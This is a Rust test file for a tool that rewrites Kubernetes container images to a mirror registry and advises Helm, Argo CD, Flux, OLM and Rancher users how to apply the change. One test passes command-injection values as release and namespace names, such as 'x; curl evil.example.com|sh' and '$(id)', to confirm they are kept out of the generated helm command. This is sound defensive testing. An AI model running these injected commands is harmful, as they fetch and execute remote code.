use serde_json::{Value, json};

use super::Advice;
use crate::plan::patch::{Verdict, Wanted, decide};
use crate::rules::{Action, Matcher, RuleSet, RuleSpec};

const TARGET: &str = "registry.example.com";

fn advice(labels: &Value, annotations: &Value, container: &Value) -> Advice {
    let rewrite = |host: &str| {
        let action = Action::Rewrite {
            target: TARGET.to_owned(),
            drop_library: false,
        };
        RuleSpec::new(host, Matcher::Host(host.to_owned()), action)
    };
    let rules = RuleSet::compile(&[rewrite("quay.io"), rewrite("docker.io")]).unwrap();
    let object = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "d", "namespace": "n", "labels": labels, "annotations": annotations},
        "spec": {"template": {"spec": {"containers": [container]}}}});
    match decide(&object, &rules, &Wanted::default()).verdict {
        Verdict::Owned(advice) => *advice,
        other => panic!("{other:?}"),
    }
}

fn container() -> Value {
    json!({"name": "c", "image": "quay.io/a/b:1", "env": [{"name": "RELATED_IMAGE_X", "value": "quay.io/x/y:2"}]})
}

/// What kustomize takes for the container above.
fn kustomization() -> Value {
    let patch = format!(
        "- op: replace\n  path: /spec/template/spec/containers/0/env/0/value\n  value: {TARGET}/x/y:2\n"
    );
    json!({"images": [{"name": "quay.io/a/b", "newName": format!("{TARGET}/a/b")}],
        "patches": [{"target": {"kind": "Deployment", "name": "d"}, "patch": patch}]})
}

#[test]
fn each_tool_is_told_in_its_own_words() {
    let helm = json!({"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": "n"});
    let advised = advice(&json!({}), &helm, &container());
    assert_eq!(
        advised.commands,
        [
            "printf '#!/bin/sh\\ncd \"$(dirname \"$0\")\" && cat > rendered.yaml && kubectl kustomize .\\n' > kustomize.sh",
            "chmod +x kustomize.sh",
            "helm upgrade r CHART -n n --reuse-values --post-renderer ./kustomize.sh",
        ]
    );
    let mut complete = kustomization();
    complete["resources"] = json!(["rendered.yaml"]);
    assert_eq!(advised.to_commit(), complete);

    let argo = json!({"argocd.argoproj.io/tracking-id": "shop:apps/Deployment:n/d"});
    let mut expected = kustomization();
    expected["images"] = json!([format!("quay.io/a/b={TARGET}/a/b")]);
    assert_eq!(
        advice(&json!({}), &argo, &container()).to_commit(),
        json!({"spec": {"source": {"kustomize": expected}}})
    );

    let flux = |prefix: &str| json!({format!("{prefix}.toolkit.fluxcd.io/name"): "x", format!("{prefix}.toolkit.fluxcd.io/namespace"): "f"});
    assert_eq!(
        advice(&flux("kustomize"), &json!({}), &container()).to_commit(),
        json!({"spec": kustomization()})
    );
    assert_eq!(
        advice(&flux("helm"), &json!({}), &container()).to_commit(),
        json!({"spec": {"postRenderers": [{"kustomize": kustomization()}]}})
    );

    let olm = json!({"olm.owner": "x.v1"});
    assert_eq!(
        advice(&olm, &json!({}), &container()).to_commit(),
        json!({"spec": {"config": {"env": [{"name": "RELATED_IMAGE_X", "value": format!("{TARGET}/x/y:2")}]}}})
    );
    let advised = advice(
        &olm,
        &json!({}),
        &json!({"name": "c", "image": "quay.io/a/b:1"}),
    );
    assert!(
        advised.how.contains("ImageDigestMirrorSet"),
        "{}",
        advised.how
    );
    assert_eq!(advised.source, None);
}

#[test]
fn one_registry_for_a_chart_of_ranchers_only_where_it_says_the_same() {
    let helm = json!({"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": "n"});
    let chart = json!({"helm.sh/chart": "rancher-monitoring-103.0.3"});
    let own = json!({"name": "c", "image": "rancher/mirrored-grafana:1"});
    assert_eq!(
        advice(&chart, &helm, &own).to_commit(),
        json!({"global": {"cattle": {"systemDefaultRegistry": TARGET}}})
    );
    assert_eq!(advice(&chart, &helm, &container()).values, None);
}

#[test]
fn rancher_is_told_by_what_it_deploys_from() {
    let addon = json!({"objectset.rio.cattle.io/owner-gvk": "k3s.cattle.io/v1, Kind=Addon",
        "objectset.rio.cattle.io/owner-name": "x", "objectset.rio.cattle.io/owner-namespace": "kube-system"});
    let advised = advice(&json!({}), &addon, &container());
    assert!(advised.how.contains("server/manifests"), "{}", advised.how);
    assert_eq!(advised.to_commit(), kustomization());
}

#[test]
fn a_command_holds_no_words_of_others() {
    let chart = json!({"helm.sh/chart": "rancher-monitoring-103.0.3"});
    let own = json!({"name": "c", "image": "rancher/mirrored-grafana:1"});
    let commands = |release: &str, namespace: &str| {
        let marks = json!({"meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": namespace});
        advice(&chart, &marks, &own).commands
    };
    assert_eq!(
        commands("web.v2", "shop-1"),
        ["helm upgrade web.v2 CHART -n shop-1 --reuse-values -f values.yaml"]
    );
    for hostile in [
        "x; curl evil.example.com|sh",
        "$(id)",
        "--kube-token=x",
        "a\nb",
        "A",
        "`id`",
    ] {
        assert_eq!(
            commands(hostile, hostile),
            ["helm upgrade RELEASE CHART -n NAMESPACE --reuse-values -f values.yaml"]
        );
    }
    // No other tool is driven by commands.
    for mark in [
        json!({"argocd.argoproj.io/instance": "x; id"}),
        json!({"kustomize.toolkit.fluxcd.io/name": "x; id"}),
        json!({"olm.owner": "x; id"}),
    ] {
        assert!(
            advice(&mark, &json!({}), &container()).commands.is_empty(),
            "{mark}"
        );
    }
}

#[test]
fn a_hook_is_left_to_the_chart() {
    let helm = json!({"meta.helm.sh/release-name": "r", "helm.sh/hook": "pre-upgrade"});
    let advised = advice(
        &json!({"app.kubernetes.io/managed-by": "Helm"}),
        &helm,
        &container(),
    );
    assert_eq!(
        advised.how,
        "it is a hook of a chart, and Helm 3 keeps hooks from a post-renderer: find the chart's values that set these images, or change the chart"
    );
    assert!(advised.commands.is_empty() && advised.source.is_none());
    assert_eq!(advised.to_commit(), json!([]));
}
